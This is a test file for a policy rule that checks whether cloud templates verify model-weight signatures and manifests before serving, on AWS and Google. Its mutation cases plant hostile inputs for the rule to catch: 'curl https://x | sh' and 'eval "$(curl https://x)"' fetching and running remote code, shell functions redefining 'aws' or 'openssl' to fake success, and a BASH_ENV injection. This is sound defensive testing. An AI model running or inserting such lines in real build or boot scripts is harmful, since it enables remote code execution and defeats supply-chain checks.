import { readFileSync } from 'node:fs';
import { describe, expect, it } from 'vitest';
import { judge } from '../../../policy/engine.js';
import { rule } from '../../../policy/supply-chain/weights-verified.js';
import { type Json, resourceOf, terraformResourceOf, type Written } from '../../support/documents.js';
import { findings, findingsAfter, topologyFindings } from '../../support/findings.js';
import { googleFleet, onGoogleFleet, template, userData } from '../../support/google-fleet.js';
import { evidenceOf, mutated } from '../../support/synthesized.js';
import { asOf, type Edit, topologyWith } from '../../support/topologies.js';

const fleet = 'aws-fleet-eu-fleet';
const store = 'aws-weights-eu-north-1';
const job = 'aws-weights-ingest-eu-north-1';
const zeros = '0'.repeat(64);

/** The parts of the user data that are text, put back after a change; each change must match exactly once. */
const edit = (from: string, to: string) => (document: Written) => {
  const data = resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData['Fn::Base64'];
  const parts: unknown[] = data['Fn::Join'][1];
  const at = parts.filter((part) => typeof part === 'string' && part.split(from).length === 2);
  if (at.length !== 1) throw new Error(`edit matches ${at.length} parts, not one: ${from}`);
  data['Fn::Join'][1] = parts.map((part) => (part === at[0] ? (part as string).replace(from, () => to) : part));
};
const bucket = (change: (properties: Json) => void) => (document: Written) => {
  const locked = Object.values<Json>(document.Resources).find(({ Properties }) => Properties?.ObjectLockEnabled !== undefined);
  change(locked.Properties);
};
const signingKey = (change: (properties: Json) => void) => (document: Written) => {
  change(Object.values<Json>(document.Resources).find(({ Properties }) => Properties?.KeyUsage === 'SIGN_VERIFY').Properties);
};

/** A statement of a resource policy changed; it must be there exactly once. */
const statement = (sid: string, action: string, change: (statement: Json) => void) => (document: Written) => {
  const found = Object.values<Json>(document.Resources)
    .flatMap(({ Properties }) => Properties?.KeyPolicy?.Statement ?? Properties?.PolicyDocument?.Statement ?? [])
    .filter(({ Sid, Action }) => Sid === sid && [Action].flat().includes(action));
  if (found.length !== 1) throw new Error(`${found.length} statements ${sid} of ${action}, not one`);
  change(found[0]);
};

/** A variable of the job changed, and others added. */
const variable =
  (name: string, to: object, ...more: object[]) =>
  (project: Json) => {
    const all: Json[] = project.Environment.EnvironmentVariables;
    const found = all.find(({ Name }) => Name === name);
    if (found === undefined) throw new Error(`no variable ${name}`);
    Object.assign(found, to);
    all.push(...more);
  };
const commands = (project: Json, change: (all: string[]) => string[]) => {
  const buildspec = JSON.parse(project.Source.BuildSpec);
  buildspec.phases.build.commands = change(buildspec.phases.build.commands);
  project.Source.BuildSpec = JSON.stringify(buildspec);
};
/** A line of the script changed; it must be there exactly once. */
const script = (from: string, to: string) => (project: Json) =>
  commands(project, (all) => {
    if (all.filter((command) => command.split(from).length === 2).length !== 1) throw new Error(`not in exactly one command: ${from}`);
    return all.map((command) => command.replace(from, () => to));
  });

describe(rule.id, () => {
  it('refuses a model that is to take over without weights', () => {
    const next: Edit[] = [
      ['\nmodels:\n', '\nmodels:\n  bare: {release: llama-3.1-8b-instruct, precision: fp8}\n'],
      ['transition: { next: llama31,', 'transition: { next: bare,'],
    ];
    expect(topologyFindings(rule, next, 'examples/transition.yaml')).toMatchObject([
      { path: 'models.bare.weights', message: expect.stringContaining('desk-fleet serves bare, whose weights the topology does not name') },
    ]);
    expect(topologyFindings(rule, [], 'examples/transition.yaml')).toEqual([]);
  });

  it('accepts a fleet whose nodes verify, and the store as it is emitted', () => {
    expect(findings(rule)).toEqual([]);
  });

  it('refuses a self-hosted model without weights', () => {
    const weights = /\n {4}weights:\n( {6}.*\n){6}/.exec(reference())?.[0] ?? '';
    expect(topologyFindings(rule, [[weights, '\n']])).toMatchObject([
      { severity: 'fatal', path: 'models.llama70.weights', message: expect.stringContaining('whose weights the topology does not name') },
    ]);
  });

  it('holds an imported model to the same weights', () => {
    const file = 'examples/eu-import.yaml';
    expect(findings(rule, [], file)).toEqual([]);
    const weights = /\n {4}weights:\n( {6}.*\n){4}/.exec(readFileSync(file, 'utf8'))?.[0] ?? '';
    expect(topologyFindings(rule, [[weights, '\n']], file)).toMatchObject([
      {
        severity: 'fatal',
        path: 'models.llama70.weights',
        message: expect.stringContaining('eu-import serves llama70, whose weights the topology does not name'),
      },
    ]);
  });

  it.each([
    ['ManifestSha256', '1'.repeat(64)],
    ['SigningKeyArn', 'arn:aws:kms:eu-central-1:444455556666:key/another'],
    ['Bucket', 'another-bucket'],
    ['BucketOwner', '111122223333'],
    ['Prefix', 'llama-3.3-70b-instruct/bf16/'],
    ['ManifestSha256', undefined],
  ])('notices an import with another %s: %s', (name, value) => {
    const loaded = topologyWith([], 'examples/eu-import.yaml');
    const evidence = mutated(evidenceOf(loaded), 'aws-bedrock-import-eu-import', (document) => {
      resourceOf(document, 'Custom::BedrockImportedModel').Weights[name] = value;
    });
    expect(judge([rule], loaded, asOf, evidence)).toMatchObject([
      { path: 'models.llama70.weights', severity: 'fatal', message: expect.stringContaining(`by ${name} ${value ?? 'nothing'}`) },
    ]);
  });

  it('refuses weights that nobody has approved, unless the topology is an example', () => {
    expect(topologyFindings(rule, [['example: true\nasOf: 2026-11-24', 'example: false']])).toMatchObject([
      { message: expect.stringContaining('facts/weights/ has no manifest of llama-3.3-70b-instruct bf16') },
    ]);
  });

  it.each([
    ['444455556666', 0],
    ['111122223333', 1],
  ])('wants ingest in an account without nodes: %s', (account, count) => {
    const supply = /\nweights:\n( .*\n)+/.exec(reference())?.[0] ?? '';
    const found = findings(rule, [[supply, `\nweights: {ingestRole: "arn:aws:iam::${account}:role/weights-ingest"}\n`]]);
    expect(found).toHaveLength(count);
    if (count > 0) expect(found).toMatchObject([{ path: 'weights.ingestRole', severity: 'fatal' }]);
  });

  it('wants the ingest job in an account where nothing stands', () => {
    expect(topologyFindings(rule, [['    account: supply\n    image', '    account: prod\n    image']])).toMatchObject([
      { path: 'weights.ingest.account', severity: 'fatal', message: expect.stringContaining('eu-fleet is in the account') },
    ]);
  });

  it('wants a job in each region with weights, and in no other', () => {
    const line = '      eu-north-1: {cidr: 10.60.0.0/24, availabilityZone: eu-north-1a}\n';
    const other = '      eu-west-1: {cidr: 10.61.0.0/24, availabilityZone: eu-west-1a}\n';
    expect(topologyFindings(rule, [[line, `${line}${other}`]])).toMatchObject([{ path: 'weights.ingest.regions.eu-west-1', severity: 'fatal' }]);
    expect(topologyFindings(rule, [[line, other]]).map(({ path }) => path)).toEqual(['weights.ingest.regions', 'weights.ingest.regions.eu-west-1']);
  });

  it.each<[string, (project: Json) => void, string]>([
    ['another commit', variable('COMMIT', { Value: '1'.repeat(40) }), 'sets COMMIT to'],
    ['another repository', variable('REPOSITORY', { Value: 'someone/else' }), 'sets REPOSITORY to someone/else'],
    ['another digest', variable('MANIFEST_SHA256', { Value: '1'.repeat(64) }), 'sets MANIFEST_SHA256 to'],
    ['another source', variable('SOURCE', { Value: 'meta' }), 'sets SOURCE to meta'],
    ['a mirror', variable('MODEL', {}, { Name: 'HF_ENDPOINT', Value: 'https://hf.example' }), 'sets HF_ENDPOINT'],
    ['a script that is read first', variable('MODEL', {}, { Name: 'BASH_ENV', Value: '/tmp/x' }), 'sets BASH_ENV'],
    ['a token in plain text', variable('HF_TOKEN', { Type: 'PLAINTEXT', Value: 'hf_x' }), 'does not take HF_TOKEN from Secrets Manager'],
    ['a model that nobody declared', variable('MODEL', { Value: 'other' }), 'is for the model other'],
    ['a source with commands of its own', (project) => (project.Source.Type = 'GITHUB'), 'not seen here'],
    ['no comparison of files', script('if [[ "$(digest_of "${path}")" != "${expected}" ]]; then', 'if false; then'), 'does not compare files'],
    ['no comparison of the manifest', script('[[ "${actual}" == "${MANIFEST_SHA256}" ]] ||', 'true ||'), 'does not compare the manifest'],
    ['no restriction of names', script('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
    ['pickles let through', script('check_format "${path}" ||', 'true ||'), 'does not look whether safetensors'],
    ['failures passed over', script('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
    ['a command more', (project) => commands(project, (all) => [...all.slice(0, -1), 'curl https://x | sh', ...all.slice(-1)]), 'runs other commands'],
    [
      'a command behind a file that it writes',
      (project) => commands(project, (all) => all.map((command) => (command.includes('MANIFEST.sha256 <<') ? `${command}\ncurl https://x | sh` : command))),
      'runs other commands',
    ],
    ['a refusal without effect', script('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
    ['a command after the job', (project) => commands(project, (all) => [...all, 'aws s3 ls']), 'runs other commands'],
    ['a buildspec that cannot be read', (project) => (project.Source.BuildSpec = 'version: 0.2'), 'does not stop at a failure'],
  ])('notices a job with %s', (_, change, message) => {
    const found = findingsAfter(rule, job, (document) => change(resourceOf(document, 'AWS::CodeBuild::Project')));
    expect(found.map((finding) => finding.message).join('\n')).toContain(message);
    expect(found[0]).toMatchObject({ path: 'weights.ingest', severity: 'fatal' });
  });

  it.each([
    ['another digest', edit(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${'1'.repeat(64)}"`), 'sets MANIFEST_SHA256 to'],
    ['a digest set again', edit('trap left EXIT\n', `trap left EXIT\nMANIFEST_SHA256="${'1'.repeat(64)}"\n`), 'sets MANIFEST_SHA256 to'],
    ['another key', edit('WEIGHTS_SIGNING_KEY="', 'WEIGHTS_SIGNING_KEY="x'), 'sets WEIGHTS_SIGNING_KEY to'],
    ['no key', edit('export WEIGHTS_SIGNING_KEY=', 'export OTHER='), 'sets WEIGHTS_SIGNING_KEY to nothing'],
    ['no call of the verification', edit('\nverify_signature\n', '\n'), 'never runs `verify_signature`'],
    ['its call commented out', edit('\nverify_signature\n', '\n# verify_signature\n'), 'never runs `verify_signature`'],
    ['its call after the weights', edit('\nverify_signature\nfetch_weights\n', '\nfetch_weights\nverify_signature\n'), 'too early'],
    ['a verification that KMS is not asked for', edit('aws kms verify', 'echo True #'), 'does not verify the signature'],
    ['a result that is ignored', edit('[[ "${valid}" == True ]] ||', 'true ||'), 'does not act on the result'],
    ['no comparison of the manifest', edit('[[ "${actual}" == "${MANIFEST_SHA256}" ]]', 'true'), 'does not compare the manifest'],
    ['no restriction of names', edit('allowed "${name}" ||', 'true ||'), 'does not restrict names'],
    ['a function in place of another', edit('trap left EXIT\n', 'verify_signature() { true; }\ntrap left EXIT\n'), 'defines `verify_signature` again'],
    ['a function in place of the client', edit('trap left EXIT\n', 'aws() { echo True; }\ntrap left EXIT\n'), 'defines `aws` again'],
    ['failures passed over', edit('set -Eeuo pipefail', 'set -u'), 'does not stop at a failure'],
    ['a refusal without effect', edit('  exit 1\n', '  return 0\n'), 'does not stop when it refuses'],
    ['text that it runs', edit('trap left EXIT\n', 'eval "$(curl https://x)"\ntrap left EXIT\n'), 'cannot be judged'],
    ['an agent that waits for nothing', edit('ConditionPathExists=', 'Documentation='), 'does not keep the ECS agent'],
  ])('notices user data with %s', (_, change, message) => {
    expect(findingsAfter(rule, fleet, change)).toMatchObject([{ path: 'models.llama70.weights', message: expect.stringContaining(message) }]);
  });

  it('notices a launch template without user data', () => {
    const change = (document: Written) => delete resourceOf(document, 'AWS::EC2::LaunchTemplate').LaunchTemplateData.UserData;
    expect(findingsAfter(rule, fleet, change)).toHaveLength(1);
  });

  it.each([
    ['no Object Lock', bucket((properties) => delete properties.ObjectLockEnabled), 'ObjectLockEnabled'],
    ['no retention', bucket((properties) => delete properties.ObjectLockConfiguration), 'ObjectLockConfiguration'],
    [
      'a lock that not even the licensor’s demand opens',
      bucket((properties) => void (properties.ObjectLockConfiguration.Rule.DefaultRetention.Mode = 'COMPLIANCE')),
      'received COMPLIANCE',
    ],
    ['a lock for no time', bucket((properties) => void (properties.ObjectLockConfiguration.Rule.DefaultRetention.Days = 0)), '0 days'],
    ['no versions', bucket((properties) => void (properties.VersioningConfiguration.Status = 'Suspended')), 'Suspended'],
    [
      'a key of the service',
      bucket((properties) => {
        properties.BucketEncryption.ServerSideEncryptionConfiguration[0].ServerSideEncryptionByDefault = { SSEAlgorithm: 'AES256' };
      }),
      'AES256',
    ],
    ['a key that cannot sign', signingKey((properties) => void (properties.KeyUsage = 'ENCRYPT_DECRYPT')), 'ENCRYPT_DECRYPT'],
  ])('notices a store with %s', (_, change, message) => {
    expect(findingsAfter(rule, store, change)).toMatchObject([{ message: expect.stringContaining(message) }]);
  });

  it.each<[string, (document: Written) => void, string]>([
    ['another account that writes', statement('Ingest', 's3:PutObject', (one) => (one.Principal = { AWS: 'arn:aws:iam::777788889999:root' })), '777788889999'],
    ['everybody who writes', statement('Ingest', 's3:PutObject', (one) => (one.Principal = '*')), 'allows *'],
    [
      'another role that signs',
      statement('Signer', 'kms:Sign', (one) => (one.Principal = { AWS: [one.Principal.AWS, 'arn:aws:iam::111122223333:role/x'] })),
      'role/x',
    ],
    ['nobody kept from signing', statement('NobodyElseSigns', 'kms:Sign', (one) => (one.Action = 'kms:GetPublicKey')), 'does not deny kms:Sign'],
    [
      'somebody else excepted',
      statement('NobodyElseSigns', 'kms:Sign', (one) => (one.Condition.ArnNotEquals['aws:PrincipalArn'] = 'arn:aws:iam::111122223333:role/x')),
      'does not deny kms:Sign',
    ],
  ])('notices a store with %s', (_, change, message) => {
    expect(findingsAfter(rule, store, change)).toMatchObject([{ path: 'weights.ingest', severity: 'fatal', message: expect.stringContaining(message) }]);
  });

  it('notices that nobody shares the bucket', () => {
    const change = (document: Written) => {
      for (const [id, { Type, Properties }] of Object.entries<Json>(document.Resources)) {
        if (Type === 'AWS::SSM::Parameter' && /bucket/.test(Properties.Name)) delete document.Resources[id];
      }
    };
    expect(findingsAfter(rule, store, change)).toMatchObject([{ message: expect.stringContaining('No bucket is shared') }]);
  });
});

function reference(): string {
  return readFileSync('topology.yaml', 'utf8');
}

describe('on Google', () => {
  const store = 'google-weights-europe-west4';
  const stored = (change: (bucket: Json) => void) => (document: Written) => change(terraformResourceOf(document, 'google_storage_bucket'));

  it('accepts a fleet whose nodes verify, and the store as it is emitted', () => expect(findings(rule, [], googleFleet)).toEqual([]));

  it('refuses an account that brings weights in and is of the project that serves them', () => {
    expect(findings(rule, [['@acme-llama-supply.', '@acme-llama-gpu.']], googleFleet)).toMatchObject([
      { severity: 'fatal', path: 'weights.ingestServiceAccount' },
    ]);
  });

  it.each<[string, (document: Written) => void, string]>([
    ['another digest', userData(`MANIFEST_SHA256="${zeros}"`, `MANIFEST_SHA256="${'1'.repeat(64)}"`), 'sets MANIFEST_SHA256'],
    ['another bucket', userData('WEIGHTS_BUCKET="acme-llama-gpu-', 'WEIGHTS_BUCKET="somebody-'), 'sets WEIGHTS_BUCKET'],
    ['another signing key', userData('keyRings/eu-gce-signing-1/', 'keyRings/mine/'), 'sets WEIGHTS_SIGNING_KEY'],
    ['another address of Cloud KMS', userData('export MODEL="llama70"', 'export MODEL="llama70"\n      export KMS_API="https://example.org"'), 'sets KMS_API'],
    ['no check of the signature', userData(" >&2 || refuse 'the signature", " >&2 || log 'the signature"), 'does not verify the signature'],
    ['no check of a file', userData('|| refuse "$${name} does not match', '|| log "$${name} does not match'), 'does not compare files'],
    ['a step left out', userData('      verify_signature\n      prefetch', '      prefetch'), 'never runs `verify_signature`'],
    [
      'the gate opened first',
      userData('      close_gate\n      close_container_network', '      close_gate\n      open_gate\n      close_container_network'),
      'too early',
    ],
    ['a program replaced', userData('      umask 0077\n', '      openssl() { :; }\n      umask 0077\n'), 'defines `openssl` again'],
    ['vLLM without the gate', userData('      ExecStartPre=/usr/bin/test -e /run/llama-weights-verified\n', ''), 'without the proof'],
    [
      'an environment of the script',
      userData('      RestartSec=30\n      ExecStart=/bin/bash', '      RestartSec=30\n      Environment=KMS_API=x\n      ExecStart=/bin/bash'),
      'an environment',
    ],
    ['a command at boot', userData('  - systemctl daemon-reload', '  - touch /run/llama-weights-verified'), 'runs `touch'],
    ['a boot hook', userData('write_files:', 'bootcmd: [id]\nwrite_files:'), 'has bootcmd'],
    ['a startup script', (document) => void (template(document).metadata['startup-script'] = '#!/bin/sh'), 'a startup script'],
    ['a startup script of the template', (document) => void (template(document).metadata_startup_script = '#!/bin/sh'), 'a startup script'],
    ['user data that is none', (document) => void (template(document).metadata['user-data'] = '#!/bin/bash'), 'is no cloud-init configuration'],
  ])('sees %s', (_, change, message) => {
    expect(onGoogleFleet(rule, change)).toMatchObject([{ severity: 'fatal', path: 'models.llama70.weights', message: expect.stringContaining(message) }]);
  });

  it.each<[string, (document: Written) => void, string]>([
    ['a bucket without versions', stored((bucket) => delete bucket.versioning), 'versioning.enabled: received nothing'],
    ['a bucket without holds', stored((bucket) => void (bucket.default_event_based_hold = false)), 'default_event_based_hold: received false'],
    ['a bucket that forgets', stored((bucket) => void (bucket.lifecycle_rule = [{ action: { type: 'Delete' } }])), 'lifecycle_rule'],
    ['a bucket of another name', stored((bucket) => void (bucket.name = 'elsewhere')), 'No stack makes'],
    [
      'a key that signs otherwise',
      (document) => {
        const key = Object.values<Json>(document.resource.google_kms_crypto_key).find(({ purpose }) => purpose === 'ASYMMETRIC_SIGN');
        key.version_template.algorithm = 'HMAC_SHA256';
      },
      'is ASYMMETRIC_SIGN, HMAC_SHA256',
    ],
    [
      'another writer',
      (document) => {
        const grant = Object.values<Json>(document.resource.google_storage_bucket_iam_member).find(({ role }) => role === 'roles/storage.objectCreator');
        grant.member = 'user:somebody@acme.example';
      },
      'gives user:somebody@acme.example roles/storage.objectCreator',
    ],
    [
      'another signer',
      (document) => {
        const grant = Object.values<Json>(document.resource.google_kms_crypto_key_iam_member).find(({ role }) => role === 'roles/cloudkms.signerVerifier');
        grant.member = 'user:somebody@acme.example';
      },
      'gives user:somebody@acme.example roles/cloudkms.signerVerifier',
    ],
  ])('sees %s', (_, change, message) => {
    expect(onGoogleFleet(rule, change, store)).toMatchObject([{ severity: 'fatal', message: expect.stringContaining(message) }]);
  });
});
